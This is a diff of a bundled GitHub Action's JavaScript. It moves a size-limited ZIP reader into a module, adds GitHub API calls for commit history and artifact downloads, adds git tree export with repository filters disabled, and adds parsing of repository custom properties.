 
 // EXTERNAL MODULE: external "node:os"
 var external_node_os_ = __nccwpck_require__(48161);
-// EXTERNAL MODULE: external "node:zlib"
-var external_node_zlib_ = __nccwpck_require__(38522);
-;// CONCATENATED MODULE: ./build/js/host/actions/artifact/zip.js
-
-/** The archive is broken, or not one that we made. */
-class ZipError extends Error {
-}
-const endSignature = 0x06054b50;
-const memberSignature = 0x02014b50;
-const localSignature = 0x04034b50;
-const endBytes = 22;
-const longestComment = 0xffff;
-/** Folders, links out of the folder and odd names are in no archive of ours. */
-const plainName = /^(?!\.{1,2}(?:\/|$))[^/\\\p{Cc}]{1,200}(?:\/(?!\.{1,2}(?:\/|$))[^/\\\p{Cc}]{1,200}){0,8}$/u;
-/**
- * The files of a ZIP archive (APPNOTE 6.3: stored or deflated, not encrypted, without ZIP64) that somebody else may have made.
- * @throws ZipError whose message completes "it ...".
- */
-function readZip(archive, limits) {
-    try {
-        const members = membersOf(archive, limits);
-        return new Map(members.map((member) => [member.name, zip_contentOf(member, archive)]));
-    }
-    catch (error) {
-        if (error instanceof RangeError)
-            throw new ZipError('ends too early');
-        throw error;
-    }
-}
-function membersOf(archive, limits) {
-    const end = findEnd(archive);
-    const count = archive.readUInt16LE(end + 10);
-    if (count > limits.members)
-        throw new ZipError(`holds ${count} files, more than ${limits.members}`);
-    const members = [];
-    let at = archive.readUInt32LE(end + 16);
-    for (let index = 0; index < count; index += 1) {
-        const { member, next } = readMember(archive, at);
-        if (!member.name.endsWith('/'))
-            members.push(checked(member));
-        at = next;
-    }
-    if (new Set(members.map(({ name }) => name)).size < members.length)
-        throw new ZipError('holds two files of one name');
-    const size = members.reduce((sum, member) => sum + member.size, 0);
-    if (size > limits.bytes)
-        throw new ZipError(`holds ${size} bytes, more than ${limits.bytes}`);
-    return members;
-}
-function findEnd(archive) {
-    const first = Math.max(0, archive.length - endBytes - longestComment);
-    for (let at = archive.length - endBytes; at >= first; at -= 1) {
-        if (archive.readUInt32LE(at) === endSignature)
-            return at;
-    }
-    throw new ZipError('is no ZIP archive, or was cut');
-}
-function readMember(archive, at) {
-    if (archive.readUInt32LE(at) !== memberSignature)
-        throw new ZipError('has a broken list of files');
-    if ((archive.readUInt16LE(at + 8) & 1) === 1)
-        throw new ZipError('is encrypted');
-    const nameEnd = at + 46 + archive.readUInt16LE(at + 28);
-    const member = {
-        name: archive.toString('utf8', at + 46, nameEnd),
-        method: archive.readUInt16LE(at + 10),
-        crc: archive.readUInt32LE(at + 16),
-        packed: archive.readUInt32LE(at + 20),
-        size: archive.readUInt32LE(at + 24),
-        at: archive.readUInt32LE(at + 42),
-    };
-    return { member, next: nameEnd + archive.readUInt16LE(at + 30) + archive.readUInt16LE(at + 32) };
-}
-function checked(member) {
-    if (!plainName.test(member.name))
-        throw new ZipError('holds a file whose name is not plain');
-    if (member.method !== 0 && member.method !== 8)
-        throw new ZipError(`is packed by method ${member.method}`);
-    return member;
-}
-function zip_contentOf(member, archive) {
-    if (archive.readUInt32LE(member.at) !== localSignature)
-        throw new ZipError('has a file where none is');
-    const start = member.at + 30 + archive.readUInt16LE(member.at + 26) + archive.readUInt16LE(member.at + 28);
-    const packed = archive.subarray(start, start + member.packed);
-    const content = member.method === 0 ? packed : inflate(packed, member);
-    if (content.length !== member.size || (0,external_node_zlib_.crc32)(content) !== member.crc)
-        throw damaged(member);
-    return content;
-}
-/** Nothing grows beyond the size that counted against the limit. */
-function inflate(packed, member) {
-    try {
-        return (0,external_node_zlib_.inflateRawSync)(packed, { maxOutputLength: Math.max(1, member.size) });
-    }
-    catch {
-        throw damaged(member);
-    }
-}
-const damaged = ({ name }) => new ZipError(`holds a damaged file: ${name}`);
-
+// EXTERNAL MODULE: ./build/js/host/node/files/zip.js
+var zip = __nccwpck_require__(92265);
 ;// CONCATENATED MODULE: ./build/js/host/actions/artifact/trouble.js
 
 
@@ -67690,7 +70181,7 @@ const longestWords = 300;
 const failed = (sentence, hint, cause) => new errors/* GatehouseError */.GA('ARTIFACT_FAILED', sentence, { hint, cause });
 /** What kept an artifact from being `stored` or `fetched`, with the next step. */
 function artifactTrouble(name, verb, error) {
-    if (error instanceof ZipError) {
+    if (error instanceof zip/* ZipError */.W) {
         return failed(`The artifact ${name} was not used: it ${error.message}.`, 'Let actions/scan store it, and let nothing else in this run store one of that name.', error);
     }
     if (artifact_trouble_nameOf(error) === 'ArtifactNotFoundError') {
@@ -67751,7 +70242,7 @@ async function upload(store, name, files, root) {
 async function artifacts_download(store, name, folder) {
     const { artifact } = await store.getArtifact(name);
     if (artifact.size > largestArchive)
-        throw new ZipError(`has ${artifact.size} bytes, more than ${largestArchive}`);
+        throw new zip/* ZipError */.W(`has ${artifact.size} bytes, more than ${largestArchive}`);
     const scratch = await (0,promises_.mkdtemp)((0,external_node_path_.join)((0,external_node_os_.tmpdir)(), 'gatehouse-artifact-'));
     try {
         const expected = artifact.digest === undefined ? {} : { expectedHash: artifact.digest };
@@ -67761,8 +70252,8 @@ async function artifacts_download(store, name, folder) {
             ...expected,
         });
         if (digestMismatch === true)
-            throw new ZipError('is not the one that was stored: its digest is another');
-        await writeAll(readZip(await readOnly(scratch), artifacts_limits), folder);
+            throw new zip/* ZipError */.W('is not the one that was stored: its digest is another');
+        await writeAll((0,zip/* readZip */.u)(await readOnly(scratch), artifacts_limits), folder);
     }
     finally {
         await (0,promises_.rm)(scratch, { recursive: true, force: true });
@@ -67773,7 +70264,7 @@ async function readOnly(folder) {
     const [file] = await (0,promises_.readdir)(folder);
     const path = (0,external_node_path_.join)(folder, file ?? '');
     if (file === undefined || (await (0,promises_.stat)(path)).size > largestArchive)
-        throw new ZipError('did not arrive whole');
+        throw new zip/* ZipError */.W('did not arrive whole');
     return (0,promises_.readFile)(path);
 }
 async function writeAll(files, folder) {
@@ -67785,6 +70276,8 @@ async function writeAll(files, folder) {
 }
 const notThere = (name, verb) => failed(`The artifact ${name} was not ${verb}: GitHub Enterprise Server keeps artifacts another way.`, 'Leave the input artifact out. Store and fetch evidence.json with the artifact actions of your server, and give its path to the input evidence.');
 
+// EXTERNAL MODULE: external "node:zlib"
+var external_node_zlib_ = __nccwpck_require__(38522);
 // EXTERNAL MODULE: ./build/js/host/node/files/archive.js + 1 modules
 var files_archive = __nccwpck_require__(12925);
 ;// CONCATENATED MODULE: ./build/js/host/actions/cache/lookup.js
@@ -67894,11 +70387,11 @@ function troubleIn(lines) {
     const line = lines.find((candidate) => /^::(?:warning|error)\b/.test(candidate));
     return line === undefined ? undefined : save_plain(line.replace(/^::[^:]{0,200}::/, '').replace(/^Failed to save: /, ''));
 }
-const deadlineMs = 5 * 60_000;
+const save_deadlineMs = 5 * 60_000;
 const save_within = async (work) => {
     let timer;
     const late = new Promise((_, reject) => {
-        timer = setTimeout(() => reject(new Error('it took more than five minutes')), deadlineMs);
+        timer = setTimeout(() => reject(new Error('it took more than five minutes')), save_deadlineMs);
     });
     return Promise.race([work, late]).finally(() => clearTimeout(timer));
 };
@@ -68281,7 +70774,7 @@ function ask_judge(reply, call, now) {
     if (reply instanceof NoAnswer) {
         return { ok: false, failure: { kind: reply.kind, message: reply.message }, mayBeDone: reply.mayHaveArrived };
     }
-    const isSuccess = reply.status >= 200 && reply.status < 300;
+    const isSuccess = call.isRedirect === true ? reply.status === 302 : reply.status >= 200 && reply.status < 300;
     const answer = isSuccess ? call.read(reply) : ask_failed(classify(reply, call, now));
     return answer.ok ? answer : { ...answer, mayBeDone: isSuccess || reply.status >= 500 };
 }
@@ -68292,7 +70785,8 @@ function createAsk(send, time, totalMs) {
         let end = time.monotonicMs() + (call.deadlineMs ?? defaultDeadlineMs);
         for (let repeats = 0;; repeats += 1) {
             const deadlineMs = Math.max(1, end - time.monotonicMs());
-            const reply = await send({ route: call.route, parameters: call.parameters ?? {}, deadlineMs });
+            const { route, parameters = {}, isRedirect = false } = call;
+            const reply = await send({ route, parameters, deadlineMs, isRedirect });
             const outcome = ask_judge(reply, call, time.now());
             if (outcome.ok)
                 return outcome;
@@ -68500,6 +70994,47 @@ const conversation = (ask) => ({
     viewer: () => ask({ route: 'GET /user', read: bodyAs(accountSchema) }),
 });
 
+;// CONCATENATED MODULE: ./build/js/host/actions/github/history.js
+
+
+const history_needs = 'contents: read';
+const history_sha = schemas_string().regex(/^[0-9a-f]{40}(?:[0-9a-f]{24})?$/);
+const commitSchema = object({ parents: array(object({ sha: history_sha })) })
+    .transform(({ parents }) => parents.map((parent) => parent.sha));
+const comparisonSchema = object({ merge_base_commit: object({ sha: history_sha }) })
+    .transform(({ merge_base_commit }) => merge_base_commit.sha);
+/** Where a redirect leads, which is for whoever downloads. An API that is asked over TLS never sends us on without it. */
+const readLocation = (api) => ({ status, headers }) => {
+    const { location = '' } = headers;
+    const scheme = URL.canParse(location) ? new URL(location).protocol : '';
+    if (scheme === 'https:' || (scheme === 'http:' && api.startsWith('http:')))
+        return { ok: true, value: location };
+    return ask_failed({ kind: 'unexpected', status, message: 'The answer does not say where the download is.' });
+};
+/** What came before a commit, and its files as one archive. */
+const history_history = (ask, api) => ({
+    parents: (commit) => ask({
+        route: 'GET /repos/{owner}/{repo}/git/commits/{commit_sha}',
+        parameters: { commit_sha: commit },
+        read: bodyAs(commitSchema),
+        needs: history_needs,
+    }),
+    mergeBase: (base, head) => ask({
+        route: 'GET /repos/{owner}/{repo}/compare/{basehead}',
+        // Its first page lists files of the change, which nobody needs here; the second does not.
+        parameters: { basehead: `${base}...${head}`, page: 2, per_page: 1 },
+        read: bodyAs(comparisonSchema),
+        needs: history_needs,
+    }),
+    archiveAddress: (commit) => ask({
+        route: 'GET /repos/{owner}/{repo}/tarball/{ref}',
+        parameters: { ref: commit },
+        read: readLocation(api),
+        isRedirect: true,
+        needs: history_needs,
+    }),
+});
+
 // EXTERNAL MODULE: ./node_modules/bottleneck/light.js
 var light = __nccwpck_require__(63251);
 ;// CONCATENATED MODULE: ./node_modules/@octokit/plugin-throttling/dist-bundle/index.js
@@ -68590,31 +71125,31 @@ function routeMatcher(paths) {
 // pkg/dist-src/index.js
 var regex = routeMatcher(triggers_notification_paths_default);
 var triggersNotification = regex.test.bind(regex);
-var groups = {};
+var dist_bundle_groups = {};
 var createGroups = function(Bottleneck, common) {
-  groups.global = new Bottleneck.Group({
+  dist_bundle_groups.global = new Bottleneck.Group({
     id: "octokit-global",
     maxConcurrent: 10,
     ...common
   });
-  groups.auth = new Bottleneck.Group({
+  dist_bundle_groups.auth = new Bottleneck.Group({
     id: "octokit-auth",
     maxConcurrent: 1,
     ...common
   });
-  groups.search = new Bottleneck.Group({
+  dist_bundle_groups.search = new Bottleneck.Group({
     id: "octokit-search",
     maxConcurrent: 1,
     minTime: 2e3,
     ...common
   });
-  groups.write = new Bottleneck.Group({
+  dist_bundle_groups.write = new Bottleneck.Group({
     id: "octokit-write",
     maxConcurrent: 1,
     minTime: 1e3,
     ...common
   });
-  groups.notifications = new Bottleneck.Group({
+  dist_bundle_groups.notifications = new Bottleneck.Group({
     id: "octokit-notifications",
     maxConcurrent: 1,
     minTime: 3e3,
@@ -68666,14 +71201,14 @@ function throttling(octokit, octokitOptions) {
       return;
     }
     initialized = true;
-    if (groups.global == null) {
+    if (dist_bundle_groups.global == null) {
       createGroups(Bottleneck, common);
     }
-    state.global = state.global ?? groups.global;
-    state.auth = state.auth ?? groups.auth;
-    state.search = state.search ?? groups.search;
-    state.write = state.write ?? groups.write;
-    state.notifications = state.notifications ?? groups.notifications;
+    state.global = state.global ?? dist_bundle_groups.global;
+    state.auth = state.auth ?? dist_bundle_groups.auth;
+    state.search = state.search ?? dist_bundle_groups.search;
+    state.write = state.write ?? dist_bundle_groups.write;
+    state.notifications = state.notifications ?? dist_bundle_groups.notifications;
     state.retryLimiter = state.retryLimiter ?? new Bottleneck();
     const events = {};
     const emitter = new Bottleneck.Events(events);
@@ -68793,11 +71328,12 @@ function readThrown(error) {
 function createSend(connection) {
     const [owner = '', repo = ''] = connection.repository.split('/');
     let client;
-    const send = async ({ route, parameters, deadlineMs }) => {
+    const send = async ({ route, parameters, deadlineMs, isRedirect = false }) => {
         try {
             client ??= createOctokit(connection);
             const { octokit, fetch } = await client;
-            const request = { fetch: fetchWithin(fetch, deadlineMs), log: silent };
+            const redirect = isRedirect ? { redirect: 'manual' } : {};
+            const request = { fetch: fetchWithin(fetch, deadlineMs), log: silent, ...redirect };
             return replySchema.parse(await octokit.request(route, { owner, repo, ...parameters, headers, request }));
         }
         catch (error) {
@@ -68812,7 +71348,65 @@ function createSend(connection) {
     };
 }
 
+;// CONCATENATED MODULE: ./build/js/host/actions/github/stored-artifacts.js
+
+
+
+const stored_artifacts_needs = 'actions: read';
+const id = schemas_int().positive();
+const artifactSchema = object({
+    id,
+    name: schemas_string(),
+    size_in_bytes: schemas_int().nonnegative(),
+    expired: schemas_boolean(),
+    created_at: schemas_string().nullable(),
+    workflow_run: object({ id: id.optional() }).nullish(),
+});
+/** Newest first; one whose run is gone proves nothing. */
+const listSchema = object({ artifacts: array(artifactSchema) }).transform(({ artifacts }) => artifacts
+    .filter(({ expired }) => !expired)
+    .sort((a, b) => (b.created_at ?? '').localeCompare(a.created_at ?? '') || b.id - a.id)
+    .flatMap(({ id: own, size_in_bytes: bytes, workflow_run: run }) => run?.id === undefined ? [] : [{ id: own, bytes, run: run.id }]));
+const repository = object({ id }).nullish();
+const runSchema = object({
+    event: schemas_string(),
+    head_branch: schemas_string().nullable(),
+    head_sha: schemas_string(),
+    repository,
+    head_repository: repository,
+})
+    .transform(({ event, head_branch, head_sha, ...of }) => ({
+    event,
+    branch: head_branch ?? '',
+    commit: head_sha,
+    isOwn: of.repository !== null && of.repository !== undefined && of.repository.id === of.head_repository?.id,
+}));
+/** What other runs of the repository stored. */
+const storedArtifacts = (ask, api) => ({
+    artifacts: (name) => ask({
+        route: 'GET /repos/{owner}/{repo}/actions/artifacts',
+        parameters: { name, per_page: 30 },
+        read: bodyAs(listSchema),
+        needs: stored_artifacts_needs,
+    }),
+    workflowRun: (run) => ask({
+        route: 'GET /repos/{owner}/{repo}/actions/runs/{run_id}',
+        parameters: { run_id: run },
+        read: bodyAs(runSchema),
+        needs: stored_artifacts_needs,
+    }),
+    artifactAddress: (artifact) => ask({
+        route: 'GET /repos/{owner}/{repo}/actions/artifacts/{artifact_id}/{archive_format}',
+        parameters: { artifact_id: artifact, archive_format: 'zip' },
+        read: readLocation(api),
+        isRedirect: true,
+        needs: stored_artifacts_needs,
+    }),
+});
+
 ;// CONCATENATED MODULE: ./build/js/host/actions/github/github.js
+
+
 
 
 
@@ -68829,7 +71423,13 @@ function createGitHub({ context, token, time = realTime }) {
     const send = createSend({ api, repository, token });
     const asking = createAsk(send, time, patienceMs);
     const ask = token === '' ? async () => ask_failed({ kind: 'unauthenticated', message: 'There is no token.' }) : asking;
-    return { ...contents(ask), ...codeScanning(ask, !isEnterpriseServer(context)), ...conversation(ask) };
+    return {
+        ...contents(ask),
+        ...history_history(ask, api),
+        ...storedArtifacts(ask, api),
+        ...codeScanning(ask, !isEnterpriseServer(context)),
+        ...conversation(ask),
+    };
 }
 
 // EXTERNAL MODULE: external "node:buffer"
@@ -68846,7 +71446,7 @@ function typeOf(entry) {
 }
 
 // EXTERNAL MODULE: ./build/js/host/node/files/folder.js
-var folder = __nccwpck_require__(59720);
+var files_folder = __nccwpck_require__(59720);
 ;// CONCATENATED MODULE: ./build/js/host/node/files/survey.js
 
 
@@ -68911,7 +71511,7 @@ const folderReasons = new Map([
 /** Writes a file whole or not at all: beside its place, then renamed. Missing folders are made. */
 async function writeWhole(path, content) {
     try {
-        await (0,folder/* makeFolder */.f)((0,external_node_path_.dirname)(path));
+        await (0,files_folder/* makeFolder */.f)((0,external_node_path_.dirname)(path));
         await writeBeside(path, content);
     }
     catch (error) {
@@ -69028,7 +71628,7 @@ const files = {
     stat,
     list: files_list,
     survey: survey,
-    makeDirectory: (path) => (0,system_error/* writing */.dV)(path, () => (0,folder/* makeFolder */.f)(path)),
+    makeDirectory: (path) => (0,system_error/* writing */.dV)(path, () => (0,files_folder/* makeFolder */.f)(path)),
     makeTemporary: async (prefix) => {
         const folder = await promises_.realpath((0,external_node_os_.tmpdir)()).catch(() => (0,external_node_os_.tmpdir)());
         return (0,system_error/* writingTemporary */.Sv)(folder, () => promises_.mkdtemp((0,external_node_path_.join)(folder, prefix)));
@@ -69078,15 +71678,98 @@ function createGitCommand(exec, environment) {
         return value === undefined ? [] : [[name, value]];
     });
     const env = { ...Object.fromEntries(given), ...fixed };
-    return async (folder, args) => {
+    return async (folder, args, variables = {}) => {
         found ??= exec.find('git');
         const file = await found;
         if (file === undefined)
             return undefined;
-        const request = { file, args: [...safely, ...args], cwd: folder, env, deadlineMs: git_command_deadlineMs, outputBytes: git_command_outputBytes, isolated: false };
+        const request = {
+            file,
+            args: [...safely, ...args],
+            cwd: folder,
+            env: { ...env, ...variables },
+            deadlineMs: git_command_deadlineMs,
+            outputBytes: git_command_outputBytes,
+            isolated: false,
+        };
         const { end, stdout } = await exec.run(request);
         return end.type === 'exited' && end.code === 0 ? stdout : undefined;
     };
+}
+
+;// CONCATENATED MODULE: ./build/js/host/node/git/git-history.js
+const oneLine = (answer) => {
+    const line = answer?.trim();
+    return line === '' ? undefined : line;
+};
+/** A word that begins with a dash would be an option. */
+const isRevision = (text) => text !== '' && !text.startsWith('-') && !/[\0\n]/.test(text);
+/** The commit that a revision names, if git holds it. */
+const findCommit = async (git, root, revision) => isRevision(revision)
+    ? oneLine(await git(root, ['rev-parse', '--verify', '--quiet', `${revision}^{commit}`]))
+    : undefined;
+const findMergeBase = async (git, root, a, b) => isRevision(a) && isRevision(b) ? oneLine(await git(root, ['merge-base', a, b])) : undefined;
+/** As the commit itself names them: in a clone of one commit git pretends that it has none. */
+async function readParents(git, root, commit) {
+    if (!isRevision(commit))
+        return undefined;
+    const text = await git(root, ['cat-file', 'commit', commit]);
+    if (text === undefined)
+        return undefined;
+    const header = text.slice(0, Math.max(0, text.indexOf('\n\n')));
+    return [...header.matchAll(/^parent ([0-9a-f]{40}(?:[0-9a-f]{24})?)$/gm)].map(([, parent = '']) => parent);
+}
+
+;// CONCATENATED MODULE: ./build/js/host/node/git/git-export.js
+
+
+
+/** What the configuration of a filter may name: programs all of them, or that a program must not fail. */
+const filterKeys = ['clean=', 'smudge=', 'process=', 'required=false'];
+/**
+ * Settings that turn off every filter that any configuration names: a filter is a program, and one of a repository that somebody else
+ * made must not run. A file of Git LFS stays the pointer that it is in the commit. Nothing where one has a name that `-c` cannot say.
+ */
+async function withoutFilters(git, root) {
+    const named = (await git(root, ['config', '--null', '--name-only', '--get-regexp', '^filter\\.'])) ?? '';
+    const filters = named.split('\0').flatMap((key) => /^filter\.(.+)\.[^.]+$/s.exec(key)?.[1] ?? []);
+    if (filters.some((name) => name.includes('=')))
+        return undefined;
+    return [...new Set(filters)].flatMap((name) => filterKeys.flatMap((key) => ['-c', `filter.${name}.${key}`]));
+}
+/** What the user's own checkout leaves out, or writes otherwise, is no matter of this one. */
+const asWhole = ['-c', 'core.sparseCheckout=false', '-c', 'core.symlinks=true'];
+/**
+ * The files of a commit, or of a folder in it, in a new folder, with the bytes that a checkout would have. The index is one of its own:
+ * the user's is not touched. It holds the whole commit also where a part is wanted, because attributes above that part count for it.
+ */
+async function exportTree(git, root, revision, { within, folder }) {
+    const [commit, place, filters] = await Promise.all([
+        findCommit(git, root, revision),
+        git(root, ['rev-parse', '--absolute-git-dir']),
+        withoutFilters(git, root),
+    ]);
+    if (commit === undefined || place === undefined || filters === undefined)
+        return false;
+    const [tree, index] = within === '' ? [folder, `${folder}.index`] : [`${folder}.whole`, `${folder}.index`];
+    const part = within === '' ? tree : `${tree}/${within}`;
+    await (0,files_folder/* makeFolder */.f)(part);
+    const variables = { GIT_DIR: place.replace(/\n$/, ''), GIT_WORK_TREE: tree, GIT_INDEX_FILE: index };
+    const settings = [...filters, ...asWhole];
+    const inside = (...words) => git(part, [...settings, ...words], variables);
+    try {
+        if ((await inside('read-tree', commit)) === undefined)
+            return false;
+        // From within a folder, git checks out that folder. One that the commit does not have stays empty: the change brings it.
+        return (await inside('checkout-index', '--all', '--force', '--quiet')) !== undefined;
+    }
+    finally {
+        await promises_.rm(index, { force: true });
+        if (part !== tree)
+            await promises_.rename(part, folder);
+        if (part !== tree)
+            await promises_.rm(tree, { recursive: true, force: true });
+    }
 }
 
 ;// CONCATENATED MODULE: ./build/js/host/node/git/git-output.js
@@ -69122,6 +71805,8 @@ function readRemote(address) {
 }
 
 ;// CONCATENATED MODULE: ./build/js/host/node/git/git.js
+
+
 
 
 
@@ -69194,15 +71879,15 @@ async function listFiles(git, root, untracked) {
         return undefined;
     return sorted(tracked.files);
 }
-const oneLine = async (answer) => {
+const git_oneLine = async (answer) => {
     const line = (await answer)?.trim();
     return line === '' ? undefined : line;
 };
 async function readHead(git, root) {
     const [commit, ref, remote, prefix] = await Promise.all([
-        oneLine(git(root, ['rev-parse', '--verify', '--quiet', 'HEAD^{commit}'])),
-        oneLine(git(root, ['symbolic-ref', '--quiet', 'HEAD'])),
-        oneLine(git(root, ['config', '--get', 'remote.origin.url'])),
+        git_oneLine(git(root, ['rev-parse', '--verify', '--quiet', 'HEAD^{commit}'])),
+        git_oneLine(git(root, ['symbolic-ref', '--quiet', 'HEAD'])),
+        git_oneLine(git(root, ['config', '--get', 'remote.origin.url'])),
         git(root, ['rev-parse', '--show-prefix']),
     ]);
     return {
@@ -69213,7 +71898,7 @@ async function readHead(git, root) {
     };
 }
 async function findDefaultBranch(git, root) {
-    const branch = await oneLine(git(root, ['symbolic-ref', '--quiet', '--short', 'refs/remotes/origin/HEAD']));
+    const branch = await git_oneLine(git(root, ['symbolic-ref', '--quiet', '--short', 'refs/remotes/origin/HEAD']));
     if (branch === undefined)
         return undefined;
     const commit = await git(root, ['rev-parse', '--verify', '--quiet', `refs/remotes/${branch}^{commit}`]);
@@ -69228,9 +71913,7 @@ async function readBlob(git, root, entry, revision) {
     });
 }
 async function showFolder(git, root, revision, folder) {
-    if (revision === '' || revision.startsWith('-'))
-        return undefined;
-    const commit = await oneLine(git(root, ['rev-parse', '--verify', '--quiet', `${revision}^{commit}`]));
+    const commit = await findCommit(git, root, revision);
     if (commit === undefined)
         return undefined;
     const tree = await git(root, ['ls-tree', '-r', '-z', commit, '--', folder === '' ? '.' : folder]);
@@ -69248,6 +71931,10 @@ function createGit(exec, environment) {
         head: (root) => readHead(git, root),
         defaultBranch: (root) => findDefaultBranch(git, root),
         show: (root, revision, folder) => showFolder(git, root, revision, folder),
+        commitOf: (root, revision) => findCommit(git, root, revision),
+        parents: (root, commit) => readParents(git, root, commit),
+        mergeBase: (root, a, b) => findMergeBase(git, root, a, b),
+        exportTree: (root, commit, within, folder) => exportTree(git, root, commit, { within, folder }),
     };
 }
 
@@ -69834,12 +72521,24 @@ const lazyDownloads = {
 };
 const lazyArchives = {
     compress: async (text) => {
-        const { archives } = await Promise.resolve(/* import() */).then(__nccwpck_require__.bind(__nccwpck_require__, 12925));
+        const { archives } = await __nccwpck_require__.e(/* import() */ 667).then(__nccwpck_require__.bind(__nccwpck_require__, 94667));
         return archives.compress(text);
     },
+    decompress: async (packed, maxBytes) => {
+        const { archives } = await __nccwpck_require__.e(/* import() */ 667).then(__nccwpck_require__.bind(__nccwpck_require__, 94667));
+        return archives.decompress(packed, maxBytes);
+    },
     extract: async (archive, wanted, maxBytes) => {
-        const { archives } = await Promise.resolve(/* import() */).then(__nccwpck_require__.bind(__nccwpck_require__, 12925));
+        const { archives } = await __nccwpck_require__.e(/* import() */ 667).then(__nccwpck_require__.bind(__nccwpck_require__, 94667));
         return archives.extract(archive, wanted, maxBytes);
+    },
+    unpack: async (archive, folder, limits) => {
+        const { archives } = await __nccwpck_require__.e(/* import() */ 667).then(__nccwpck_require__.bind(__nccwpck_require__, 94667));
+        return archives.unpack(archive, folder, limits);
+    },
+    readZipped: async (archive, name, maxBytes) => {
+        const { archives } = await __nccwpck_require__.e(/* import() */ 667).then(__nccwpck_require__.bind(__nccwpck_require__, 94667));
+        return archives.readZipped(archive, name, maxBytes);
     },
 };
 /** The outside as Node offers it. */
@@ -69949,7 +72648,7 @@ const longestRef = 1024;
 /** What `git check-ref-format` refuses: it would be another path, or another revision than the one it names. */
 const notInRef = /[\p{Cc} ~^:?*[\\]|\.\.|@\{|\/\/|^\/|\/$|\.$|(?:^|\/)\.|\.lock(?:\/|$)/u;
 const names_isRef = (text) => text !== '' && text !== '@' && text.length <= longestRef && !text.startsWith('-') && !notInRef.test(text);
-const commitSchema = schemas_string().regex(/^(?:[0-9a-f]{40}|[0-9a-f]{64})$/, 'is not the id of a commit');
+const names_commitSchema = schemas_string().regex(/^(?:[0-9a-f]{40}|[0-9a-f]{64})$/, 'is not the id of a commit');
 /** `main`, `feature/a`. */
 const branchSchema = schemas_string().refine(names_isRef, 'is not a name that git allows');
 /** `refs/heads/main`, `refs/tags/v1`, `refs/pull/1/merge`. */
@@ -69959,7 +72658,30 @@ const refSchema = schemas_string()
 const repositorySchema = schemas_string()
     .regex(/^[A-Za-z0-9](?:[A-Za-z0-9_-]{0,99})\/(?!\.{1,2}$)[A-Za-z0-9._-]{1,100}$/, 'is not owner/name');
 
+;// CONCATENATED MODULE: ./build/js/host/actions/context/properties.js
+
+/** GitHub allows 100 definitions in an organisation, and 75 characters in a name and in a value. */
+const properties_most = 200;
+const properties_longest = 256;
+/** The one value that a property has; of a list it is the only entry, and several entries are no value. */
+function onlyValue(value) {
+    const text = Array.isArray(value) && value.length === 1 ? value[0] : value;
+    return typeof text === 'string' && text.length <= properties_longest ? text : undefined;
+}
+/** Custom properties as an event tells them: texts, lists of texts, and `null` where nothing is set. What has no value is not there. */
+const propertiesSchema = unknown().transform((properties) => {
+    if (typeof properties !== 'object' || properties === null || Array.isArray(properties))
+        return new Map();
+    return new Map(Object.entries(properties)
+        .slice(0, properties_most)
+        .flatMap(([name, value]) => {
+        const text = onlyValue(value);
+        return text === undefined || name.length > properties_longest ? [] : [[name, text]];
+    }));
+});
+
 ;// CONCATENATED MODULE: ./build/js/host/actions/context/event.js
+
 
 
 
@@ -69968,16 +72690,17 @@ const largestEvent = 25 * 2 ** 20;
 const pullRequestSchema = object({
     number: schemas_number().int().positive(),
     head: object({
-        sha: commitSchema,
+        sha: names_commitSchema,
         ref: branchSchema,
         /** `null` when the fork was deleted. */
         repo: object({ full_name: repositorySchema }).nullish(),
     }),
-    base: object({ sha: commitSchema, ref: branchSchema }),
+    base: object({ sha: names_commitSchema, ref: branchSchema }),
 });
-const mergeGroupSchema = object({ base_ref: refSchema, base_sha: commitSchema });
+const mergeGroupSchema = object({ base_ref: refSchema, base_sha: names_commitSchema });
 const eventSchema = object({
-    repository: object({ default_branch: branchSchema.optional() }).optional(),
+    repository: object({ default_branch: branchSchema.optional(), custom_properties: propertiesSchema.optional() })
+        .optional(),
     pull_request: unknown().optional(),
     merge_group: unknown().optional(),
 });
@@ -69993,9 +72716,10 @@ function decodeEvent(name, text) {
     if (text.length > largestEvent)
         throw noEvent(`The event of this run (${name}) is larger than 25 MB.`);
     const event = event_decode(eventSchema, event_parse(name, text), name);
-    const defaultBranch = event.repository?.default_branch;
+    const { default_branch: defaultBranch, custom_properties: properties } = event.repository ?? {};
     return {
         ...(defaultBranch === undefined ? {} : { defaultBranch }),
+        ...(properties === undefined || properties.size === 0 ? {} : { properties }),
         ...(isOfPullRequest(name)
             ? { pullRequest: event_decode(pullRequestSchema, event.pull_request, name, 'pull_request') }
             : {}),
@@ -70030,13 +72754,13 @@ function event_decode(schema, value, name, at) {
 const run_context_address = schemas_string()
     .refine(isPlainAddress, 'is not an address of http or https')
     .transform((text) => text.replace(/\/{1,16}$/, ''));
-const run_context_folder = schemas_string().refine((path) => (0,external_node_path_.isAbsolute)(path) && !path.includes('\0'), 'is not an absolute path');
+const folder = schemas_string().refine((path) => (0,external_node_path_.isAbsolute)(path) && !path.includes('\0'), 'is not an absolute path');
 const run_context_number = schemas_string().regex(/^[1-9]\d{0,19}$/, 'is not a number');
 const environmentSchema = object({
     GITHUB_EVENT_NAME: schemas_string().regex(/^[a-z][a-z_]{0,63}$/, 'is not the name of an event'),
-    GITHUB_EVENT_PATH: run_context_folder,
+    GITHUB_EVENT_PATH: folder,
     GITHUB_REPOSITORY: repositorySchema,
-    GITHUB_SHA: commitSchema,
+    GITHUB_SHA: names_commitSchema,
     GITHUB_REF: refSchema,
     GITHUB_SERVER_URL: run_context_address,
     GITHUB_API_URL: run_context_address,
@@ -70044,8 +72768,8 @@ const environmentSchema = object({
     GITHUB_RUN_ID: run_context_number,
     GITHUB_RUN_ATTEMPT: run_context_number.default('1'),
     GITHUB_JOB: schemas_string().regex(/^[A-Za-z_][\w-]{0,255}$/, 'is not the id of a job'),
-    GITHUB_WORKSPACE: run_context_folder,
-    RUNNER_TEMP: run_context_folder,
+    GITHUB_WORKSPACE: folder,
+    RUNNER_TEMP: folder,
 });
 /**
  * Why this step runs and on what.
@@ -70085,9 +72809,10 @@ async function readEvent(path, readFile) {
         throw noEvent('The event of this run cannot be read: the file that GITHUB_EVENT_PATH names.', error);
     }
 }
-function ofEvent(name, ref, { defaultBranch = branchOfSchedule(name, ref), pullRequest, mergeGroup }) {
+function ofEvent(name, ref, { defaultBranch = branchOfSchedule(name, ref), properties, pullRequest, mergeGroup }) {
     return {
         ...(defaultBranch === undefined ? {} : { defaultBranch }),
+        ...(properties === undefined ? {} : { properties }),
         ...(pullRequest === undefined ? {} : { pullRequest: asPullRequest(pullRequest) }),
